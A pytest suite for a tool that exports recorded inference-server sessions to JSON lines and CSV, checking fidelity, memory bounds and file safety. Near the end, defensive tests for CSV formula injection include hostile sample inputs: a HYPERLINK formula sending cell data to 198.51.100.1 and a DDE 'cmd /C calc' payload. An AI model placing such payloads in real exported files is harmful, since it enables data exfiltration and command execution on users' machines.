"""Tables hold what was recorded, no more and no less."""

import csv
import io
import json
import sqlite3
import tempfile
import tracemalloc
import zipfile
from collections import Counter
from collections.abc import Callable
from contextlib import closing
from pathlib import Path
from typing import Any

import msgspec
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from collectors.contract.clock import SessionClock
from collectors.contract.readings import (
    AnyReading,
    ClientSample,
    EventKind,
    GpuInfo,
    GpuProcesses,
    GpuSample,
    HostInfo,
    LoadEvent,
    LoadKind,
    Note,
    Phase,
    RequestEvent,
    RequestRecord,
    Step,
    TokenTimes,
    Vantage,
)
from inferwatch.errors import UsageError
from inferwatch.printing.destination import Destination
from inferwatch.printing.export.recording import Recording, opened
from inferwatch.printing.export.table_files import harmless, write_csv, write_jsonl
from inferwatch.printing.export.tables import tables
from inferwatch.record.tables.table import SessionPart
from inferwatch.record.writing.recorder import Recorder
from inferwatch.record.writing.session_writer import NewSession, SessionWriter
from tests.inferwatch.printing.export.conftest import Exported, Recorded, keep_readings

Rows = dict[str, list[dict[str, Any]]]
STEP_FIELDS = (
    *("rank", "start_ns", "end_ns", "duration_ns", "prefill_requests"),
    *("decode_requests", "prefill_tokens", "decode_tokens", "running", "waiting"),
    *("bound_by", "kv_used_blocks", "kv_cached_blocks", "kv_free_blocks"),
    *("padded_tokens", "graph_mode", "recomputed_tokens", "prefix_queries"),
)
SECOND = 1_000_000_000
MOMENTS = {
    (EventKind.ARRIVED, Vantage.FRONTEND): "arrived_ns",
    (EventKind.FIRST_TOKEN, Vantage.FRONTEND): "first_token_ns",
    (EventKind.FINISHED, Vantage.FRONTEND): "finished_ns",
    (EventKind.ADDED, Vantage.ENGINE): "added_ns",
    (EventKind.SCHEDULED, Vantage.ENGINE): "scheduled_ns",
    (EventKind.FINISHED, Vantage.ENGINE): "engine_finished_ns",
}


def all_lines(recording: Recording, target: Destination) -> None:
    write_jsonl(tables(recording, SessionPart.ALL, token_times=True), target)


def of(kind: type[AnyReading], readings: list[AnyReading]) -> list[Any]:
    return [reading for reading in readings if type(reading) is kind]


def assert_same(found: Rows, readings: list[AnyReading]) -> None:
    """Reading by reading, in order of receipt."""
    steps = of(Step, readings)
    for row, step in zip(found["steps"], steps, strict=True):
        assert row["step"] == step.index
        assert row["output_tokens"] == sum(step.produced)
        assert [row[name] for name in STEP_FIELDS] == [
            getattr(step, name) for name in STEP_FIELDS
        ]
    assert [row["member"] for row in found["step_members"]] == [
        member for step in steps for member in [*step.members, *gone(step)]
    ]
    assert Counter(
        (row["end_ns"], row["member"], row["output_tokens"])
        for row in found["step_members"]
        if row["output_tokens"]
    ) == Counter(
        (step.end_ns, member, produced)
        for step in steps
        for member, produced in zip(step.members, step.produced, strict=True)
        if produced
    )
    assert_same_requests(found, readings)


def gone(step: Step) -> list[int]:
    return [member for member in step.preempted if member not in step.members]


def assert_same_requests(found: Rows, readings: list[AnyReading]) -> None:
    by_id = {row["request_id"]: row for row in found["requests"]}
    events: list[RequestEvent] = of(RequestEvent, readings)
    assert len(by_id) == len({event.request_id for event in events})
    for event in events:
        row = by_id[event.request_id]
        assert row[MOMENTS[event.kind, event.vantage]] == event.t_ns
        assert row["source"] == event.source
    records: list[RequestRecord] = of(RequestRecord, readings)
    for row, record in zip(found["client_requests"], records, strict=True):
        fields = msgspec.structs.asdict(record)
        assert row["number"] == fields.pop("index")
        assert {name: row[name] for name in fields} == fields
    chunks = [
        (times.external_id, t_ns)
        for times in of(TokenTimes, readings)
        for t_ns in arrivals(times)
    ]
    assert [(r["external_id"], r["t_ns"]) for r in found["token_times"]] == chunks
    for table, kind in (("notes", Note), ("load_events", LoadEvent), ("gpus", GpuInfo)):
        kept = [msgspec.structs.asdict(each) for each in of(kind, readings)]
        for fields in kept if kind is GpuInfo else ():
            fields["number"] = fields.pop("index")
            fields["missing"] = json.dumps(fields["missing"])
        assert [
            {n: v for n, v in r.items() if n != "ordinal"} for r in found[table]
        ] == kept


def arrivals(times: TokenTimes) -> list[int]:
    moments = [times.first_ns]
    for gap_ns in times.gaps_ns:
        moments.append(moments[-1] + gap_ns)
    return moments


def test_json_lines_hold_what_was_recorded(
    exported: Exported, recorded: Recorded, rows: Callable[[bytes], Rows]
) -> None:
    found = rows(exported(all_lines))

    assert_same(found, recorded[1])
    assert found["sessions"][0]["name"] == "before"
    assert found["engines"][0]["num_kv_blocks"] == 300
    assert found["host_processes"][0]["role"] == "core"


@settings(
    max_examples=5,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],  # they keep nothing
)
@given(seed=st.integers(0, 1 << 30), slots=st.integers(1, 20))
def test_whatever_is_recorded_is_exported(
    traffic_of: Callable[..., Any],
    rows: Callable[[bytes], Rows],
    seed: int,
    slots: int,
) -> None:
    traffic = traffic_of(seed=seed, slots=slots)
    readings = [*traffic.start(), *traffic.run(2)]

    with tempfile.TemporaryDirectory() as folder:
        path, out = Path(folder) / "s.db", Path(folder) / "s.jsonl"
        keep_readings(path, readings)
        with opened(path, "last") as recording:
            all_lines(recording, Destination(path=out))
        found = rows(out.read_bytes())

    if of(Step, readings):
        assert_same({"client_requests": [], "token_times": [], **found}, readings)


def test_the_part_of_gpus_is_what_gpus_and_hosts_said(
    keep_session: Callable[..., Recorded],
    rows: Callable[[bytes], dict[str, list[dict[str, Any]]]],
    tmp_path: Path,
) -> None:
    path, _ = keep_session(
        [
            GpuInfo(source="GPU-a", t_ns=1, uuid="GPU-a", name="H200", index=3),
            GpuSample(
                source="GPU-a",
                t_ns=2,
                dram_active=0.5,
                throttled_ns={"power_cap": 7},
            ),
            GpuProcesses(source="GPU-a", t_ns=2, memory_bytes={41: 5}),
            HostInfo(t_ns=1, name="here", cores=2),
        ]
    )

    with opened(path, "last") as recording:
        chosen = tables(recording, SessionPart.GPU)
        write_jsonl(chosen, Destination(path=tmp_path / "gpu.jsonl"))

    found = rows((tmp_path / "gpu.jsonl").read_bytes())
    assert found["gpus"][0]["number"] == 3
    (sample,) = found["gpu_samples"]
    assert (sample["source"], sample["dram_active"]) == ("GPU-a", 0.5)
    assert (sample["power_w"], sample["throttled_ns"]) == (None, '{"power_cap":7}')
    assert found["gpu_processes"][0]["memory_bytes"] == '{"41":5}'
    assert found["hosts"][0]["cores"] == 2


def test_csv_says_the_same_as_json_lines_and_unknown_is_empty(
    exported: Exported,
    recorded: Recorded,
    rows: Callable[[bytes], Rows],
    tmp_path: Path,
) -> None:
    lines = rows(exported(all_lines))
    with opened(recorded[0], "last") as recording:
        write_csv(
            tables(recording, SessionPart.ALL, token_times=True),
            Destination(path=tmp_path / "s.zip"),
        )

    with zipfile.ZipFile(tmp_path / "s.zip") as archive:
        for name, wanted in lines.items():
            with io.TextIOWrapper(archive.open(f"{name}.csv"), "utf-8") as text:
                found = list(csv.DictReader(text))
            assert found == [
                {k: "" if v is None else str(v) for k, v in row.items()}
                for row in wanted
            ]


def test_a_folder_gets_a_file_a_table(recorded: Recorded, tmp_path: Path) -> None:
    target = Destination(path=tmp_path / "out")

    with opened(recorded[0], "last") as recording:
        write_csv(tables(recording, SessionPart.CLIENT), target)

    names = {path.name for path in target.path.iterdir()}
    assert names == {
        "canary_requests.csv",
        "client_requests.csv",
        "client_samples.csv",
        "load_events.csv",
        "load_runs.csv",
    }


def test_several_tables_do_not_go_into_one_file(
    recorded: Recorded, tmp_path: Path
) -> None:
    target = Destination(path=tmp_path / "all.csv")

    with (
        opened(recorded[0], "last") as recording,
        pytest.raises(UsageError, match=r"notes, bookmarks.*zip"),
    ):
        write_csv(tables(recording, SessionPart.NOTES), target)

    assert not target.path.exists()


def test_a_span_leaves_out_what_lies_outside(
    exported: Exported, rows: Callable[[bytes], Rows]
) -> None:
    def some(recording: Recording, target: Destination) -> None:
        span = (2_000_000_000, 3_000_000_000)
        chosen = tables(recording, SessionPart.ALL, token_times=True, span=span)
        write_jsonl(chosen, target)

    found = rows(exported(some))

    moments = [row["end_ns"] for row in found["steps"] + found["step_members"]]
    moments += [row["arrived_ns"] for row in found["requests"]]
    assert moments
    assert all(2_000_000_000 <= t_ns <= 3_000_000_000 for t_ns in moments)


def test_no_column_is_only_for_us(
    exported: Exported, rows: Callable[[bytes], Rows]
) -> None:
    found = rows(exported(all_lines))

    columns = {name for table in found.values() for name in table[0]}
    assert not [name for name in columns if name.endswith(("_carried", "_ordinal"))]


def test_memory_does_not_grow_with_the_session(
    traffic_of: Callable[..., Any], tmp_path: Path
) -> None:
    peaks = []
    for seconds in (3, 15):
        traffic = traffic_of()
        path = tmp_path / f"{seconds}.db"
        keep_in_batches(path, [*traffic.start(), *traffic.run(seconds)])
        tracemalloc.start()
        with opened(path, "last") as recording:
            # The Model, which tells of causes, is bounded, but not by so little.
            chosen = tables(recording, SessionPart.ALL, token_times=True)
            recorded = [each for each in chosen if each.name != "request_causes"]
            write_jsonl(recorded, Destination(path=tmp_path / f"{seconds}.jsonl"))
        peaks.append(tracemalloc.get_traced_memory()[1])
        tracemalloc.stop()

    assert peaks[1] < peaks[0] * 1.5


def keep_in_batches(path: Path, readings: list[AnyReading]) -> None:
    """Of equal size: how many a recorder writes at once depends on the machine."""
    about = NewSession(clock=SessionClock(), name=None, command="demo")
    session = SessionWriter.begin(path, about)
    numbered = list(enumerate(readings, 1))
    for first in range(0, len(numbered), 200):
        session.write(session.batch(numbered[first : first + 200]), 0)
    session.end(0, None)


def test_what_ends_early_leaves_no_file(recorded: Recorded, tmp_path: Path) -> None:
    target = Destination(path=tmp_path / "s.jsonl")

    class Impatient:
        def at(self, what: str, done: int, expected: int | None) -> None:
            del what, done, expected
            raise KeyboardInterrupt

    with (
        opened(recorded[0], "last", Impatient()) as recording,
        pytest.raises(KeyboardInterrupt),
    ):
        all_lines(recording, target)

    assert [path.name for path in tmp_path.iterdir()] == [recorded[0].name]


def test_a_session_that_is_recorded_on_is_exported_as_of_now(
    record: Callable[..., Recorder], path: Path, traffic: Any, eventually: Any
) -> None:
    recorder = record()
    readings = [*traffic.start(), *traffic.run(1)]
    for ordinal, reading in enumerate(readings, 1):
        recorder.put(ordinal, reading)
    eventually(lambda: recorder.health.written == len(readings))

    out = path.with_suffix(".jsonl")
    with opened(path, "last") as recording:
        write_jsonl(tables(recording, SessionPart.STEPS), Destination(path=out))

    steps = len(of(Step, readings))
    assert len(out.read_text().splitlines()) == steps


def test_tables_of_a_later_schema_are_exported_too_but_for_blobs(
    recorded: Recorded, tmp_path: Path, rows: Callable[[bytes], Rows]
) -> None:
    columns = (
        "session INTEGER, ordinal INTEGER PRIMARY KEY, hbm_bytes INTEGER, raw BLOB"
    )
    with closing(sqlite3.connect(recorded[0])) as connection, connection:
        connection.execute(f"CREATE TABLE gpu_later ({columns})")
        connection.execute("INSERT INTO gpu_later VALUES (1, 2, 3, x'00')")

    with opened(recorded[0], "last") as recording:
        chosen = tables(recording, SessionPart.GPU)
        write_jsonl(chosen, Destination(path=tmp_path / "gpu.jsonl"))

    found = rows((tmp_path / "gpu.jsonl").read_bytes())
    assert found["gpu_later"] == [{"ordinal": 2, "hbm_bytes": 3}]
    assert {"gpus", "host_samples", "host_processes"} < found.keys()


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://198.51.100.1/?"&A1)',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "\ufeff=1+1",
        "\u200b@SUM(1)",
        "\x00=1+1",
        "\uff1d1+1",
        "\tx",
        "'=1+1",
    ],
)
def test_a_formula_is_a_text(text: str) -> None:
    assert harmless(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["", "tiny", "-5", "+5", "-1.5e-3", "-.5", "a=b", "s1", "{-1}", "café"]
)
def test_what_is_no_formula_is_left_as_it_is(text: str) -> None:
    assert harmless(text) == text


@given(st.text(st.characters(exclude_categories=["Cs"]) | st.sampled_from("=+-@'\t ")))
def test_one_apostrophe_less_is_what_was_recorded(text: str) -> None:
    found = harmless(text)

    assert found.removeprefix("'") == text
    visible = found.lstrip()
    assert visible[:1] not in {*"=@"}
    assert visible[:1] not in {*"+-"} or float(visible) is not None


def test_a_spreadsheet_finds_no_formula_and_numbers_stay(
    keep_session: Callable[..., Recorded], tmp_path: Path
) -> None:
    evil = '=HYPERLINK("http://198.51.100.1")'
    database, _ = keep_session(
        [
            RequestRecord(
                source=evil,
                index=1,
                external_id=evil,
                phase=Phase.STEADY,
                intended_ns=5,
                first_token_ns=-7,
                last_token_ns=9,
                detail="-not a number",
            )
        ]
    )
    out = tmp_path / "requests.csv"
    with opened(database, "last") as recording:
        (table, *_) = [
            each
            for each in tables(recording, SessionPart.CLIENT)
            if each.name == "client_requests"
        ]
        write_csv([table], Destination(path=out, force=True))

    with out.open(newline="") as file:
        (row,) = csv.DictReader(file)
    assert row["external_id"] == row["source"] == "'" + evil
    assert row["detail"] == "'-not a number"
    assert row["first_token_ns"] == "-7"
    assert float(row["ttft_s"]) == pytest.approx(-1.2e-8)


def test_a_table_with_a_path_for_a_name_is_no_file(
    recorded: Recorded, tmp_path: Path
) -> None:
    database, _ = recorded
    with closing(sqlite3.connect(database)) as connection, connection:
        connection.execute('CREATE TABLE "../outside" (session INTEGER, text TEXT)')

    with opened(database, "last") as recording:
        found = tables(recording, SessionPart.ALL)
        write_csv(found, Destination(path=tmp_path / "folder"))

    assert "../outside" not in {table.name for table in found}
    assert not (tmp_path / "outside.csv").exists()


def test_each_load_run_is_a_row_with_the_verdict_on_its_client(
    traffic: Any, keep_session: Callable[..., Recorded]
) -> None:
    """The second run's client used a whole core."""
    readings = [*traffic.start(), *traffic.run(6)]
    again = [
        msgspec.structs.replace(each, source="load-2")
        for each in of(RequestRecord, readings)
    ]
    starved = ClientSample(
        source="load-2",
        t_ns=7 * SECOND,
        span_ns=7 * SECOND,
        final=True,
        transport="raw",
        cpu_s=6.9,
    )
    begins = LoadEvent(source="load-2", t_ns=6 * SECOND, kind=LoadKind.STARTED)
    path, _ = keep_session([*readings, begins, *again, starved])

    with opened(path, "last") as recording:
        found = {each.name: each for each in tables(recording, SessionPart.CLIENT)}
        runs = found["load_runs"]
        first, second = (dict(zip(runs.columns, r, strict=True)) for r in runs.rows())

    assert (first["run_id"], second["run_id"]) == ("load-1", "load-2")
    assert first["verdict"] == "UNKNOWN"
    assert second["verdict"] == "CLIENT-BOUND"
    assert "the load generator used 99% of a core" in second["reasons"]
    assert first["sent"] == second["ttft_n"] == len(again)
    assert first["ttft_p50_s"] == second["ttft_p50_s"] > 0
